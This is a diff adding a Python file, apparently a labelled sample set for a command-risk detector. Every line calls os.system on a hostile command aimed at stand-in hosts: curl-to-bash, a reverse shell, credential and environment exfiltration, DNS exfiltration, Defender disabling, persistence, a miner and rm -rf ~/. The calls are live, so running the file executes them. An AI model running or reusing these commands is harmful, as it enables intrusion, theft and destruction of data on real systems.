@@ -1,0 +1,23 @@
+# download-run, download, decode-run, reverse-shell, powershell-encoded, powershell-hidden, persistence, destructive, miner, exfiltration, hidden-words, dns-exfiltration, environment-dump, credential-read, evasion, memory-code, raw-connection, install-from-elsewhere, system-write, program-file: what commands say
+import os
+
+os.system("curl -s https://files.example/a.sh | bash")
+os.system("curl -o tool https://files.example/tool")
+os.system("echo aW5lcnQ= | base64 -d | sh")
+os.system("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
+os.system("powershell -EncodedCommand aQBuAGUAcgB0AGkAbgBlAHIAdAA=")
+os.system("powershell -WindowStyle Hidden -ExecutionPolicy Bypass -File a.ps1")
+os.system("schtasks /create /tn x /tr a.exe /sc onlogon")
+os.system("rm -rf ~/")
+os.system("xmrig -o stratum+tcp://pool.example:3333 -u wallet")
+os.system("curl -X POST -d @/etc/passwd https://collect.example/")
+os.system("c''url https://files.example/a | b''ash")
+os.system("nslookup $(whoami).collect.example")
+os.system("env | curl -d @- https://collect.example/")
+os.system("cat ~/.ssh/id_rsa")
+os.system("powershell Set-MpPreference -DisableRealtimeMonitoring $true")
+os.system("powershell IEX ([System.Reflection.Assembly]::Load($b))")
+os.system("nc 203.0.113.5 4444")
+os.system("pip install --index-url https://index.example/simple thing")
+os.system("echo x >> /etc/hosts")
+os.system("update.exe /quiet")
